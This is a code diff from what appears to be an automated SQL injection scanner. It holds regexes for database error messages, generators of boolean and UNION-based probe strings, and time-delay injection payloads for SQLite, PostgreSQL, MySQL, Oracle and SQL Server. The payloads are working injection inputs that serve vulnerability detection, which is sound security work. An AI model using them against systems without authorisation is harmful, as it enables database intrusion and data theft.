@@ -12,7 +12,8 @@ from typing import Final
 # Complaints about a command's grammar. Complaints about a value's type are left out: sound programs cause them, too.
 _GRAMMAR: Final = re.compile(
     r"(?<!fts5: )near \\?[\"'].{0,80}?: syntax error|unrecognized token: |unterminated quoted (string|identifier)"
-    r"|syntax error at (or near|end of input)|You have an error in your SQL syntax|Unclosed quotation mark"
+    r"|syntax error at (or near(?!.{0,80}jsonpath)|end of input)"
+    r"|You have an error in your SQL syntax|Unclosed quotation mark"
     r"|check the manual that corresponds to your (MySQL|MariaDB)|Incorrect syntax near '"
     r"|ORA-0(0907|0911|0933|0936|1756)"
     r"|quoted string not properly terminated|SQL command not properly ended|BadSqlGrammarException|QuerySyntaxException"
@@ -47,24 +48,30 @@ def speaks_of_database(text: str) -> bool:
     return bool(complaint(text) or _DATABASE.search(text[:60_000]))
 
 
-def meaning_pairs(value: str, rng: random.Random, *, is_column: bool) -> Iterator[Pair]:
-    """Yield pairs for a value that has a good answer of its own, with fresh constants at each call."""
+def meaning_pairs(value: str, rng: random.Random, *, is_column: bool = False, reads: bool) -> Iterator[Pair]:
+    """Yield pairs for a value that has a good answer of its own, with fresh constants at each call.
+
+    Where the operation writes, texts are left out that some database would take for another row: MySQL reads
+    `||` as OR and adds texts as numbers, and a text that is no number equals 0 there.
+    """
     one, two = rng.randrange(11, 5_000), rng.randrange(5_001, 9_999)
     if is_column:
         yield Pair("column", f"{value},(SELECT {one})", f"{value},(SELCET {one})")
         return
-    if value.lstrip("-").isdigit() and len(value) < 16:
+    if value.isdigit() and len(value) < 16:
         number = int(value)
-        yield Pair("sum", f"{number + one}-{one}", f"{number + one}-{one - 1}")
+        # The other sum is below zero: no row has such a number.
+        yield Pair("sum", f"{number + one}-{one}", f"{number + one}-{number + 2 * one}")
         yield Pair("number-and", f"{value} AND {one}={one}", f"{value} AND {one}={two}")
         yield Pair("number-and-bracket", f"{value}) AND ({one}={one}", f"{value}) AND ({one}={two}")
     if value:
         # The text is cut somewhere else each time.
         cut = rng.randrange(1, len(value)) if len(value) > 1 else 1
         head, tail = value[:cut], value[cut:]
-        yield Pair("joined-bars", f"{head}'||'{tail}", f"{head}|''|{tail}")
+        if reads:
+            yield Pair("joined-bars", f"{head}'||'{tail}", f"{head}|''|{tail}")
+            yield Pair("joined-plus", f"{head}'+'{tail}", f"{head}+''{tail}")
         yield Pair("joined-space", f"{head}' '{tail}", f"{head} ''{tail}")
-        yield Pair("joined-plus", f"{head}'+'{tail}", f"{head}+''{tail}")
         yield Pair("text-and", f"{value}' AND '{one}'='{one}", f"{value}' AND '{one}'='{two}")
         yield Pair("double-and", f'{value}" AND "{one}"="{one}', f'{value}" AND "{one}"="{two}')
 
@@ -85,7 +92,7 @@ def union_texts(missing: str, columns: int, rng: random.Random) -> tuple[str, st
     fields = ",".join([f"'{head}'||'{tail}'"] * columns)
     choose = " SELECT"
     before, after = ("", "") if missing.isdigit() else ("'", " -- ")
-    attack, harmless = (f"{missing}{before} {verb} {fields}{after}" for verb in ("UNION" + choose, "UNOIN" + choose))
+    attack, harmless = (f"{missing}{before} {verb}{choose} {fields}{after}" for verb in ("UNION", "UNOIN"))
     return attack, harmless, head + tail
 
 
@@ -105,11 +112,11 @@ class Delay:
 
 
 _COUNTING: Final = "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c WHERE x<{load}) SELECT x FROM c"
-_ROWS: Final = f"(SELECT count(*) FROM ({_COUNTING}))"
+# Each text adds nothing to the value, so that it still means the same row, also where `||` is read as OR.
 DELAYS: Final = (
-    Delay("sqlite", f"'||{_ROWS}||'", 1_500_000),
-    Delay("postgresql", "'||(SELECT 1 FROM PG_SLEEP({load}))||'", 1),
+    Delay("sqlite", f"'||(SELECT substr(count(*),1,0) FROM ({_COUNTING}) w)||'", 1_500_000),  # noqa: S608 - a probe
+    Delay("postgresql", "'||(SELECT '' FROM PG_SLEEP({load}))||'", 1),
     Delay("mysql", "' AND (SELECT 1 FROM (SELECT(SLEEP({load})))w) AND '1'='1", 1),
-    Delay("oracle", "'||(SELECT DBMS_PIPE.RECEIVE_MESSAGE('aw',{load}) FROM DUAL)||'", 1),
+    Delay("oracle", "'||(SELECT NULLIF(DBMS_PIPE.RECEIVE_MESSAGE('aw',{load}),1) FROM DUAL)||'", 1),
 )
 WAITING_READS: Final = (Delay("sqlserver", "';WAITFOR DELAY '0:0:{load}'-- ", 1),)
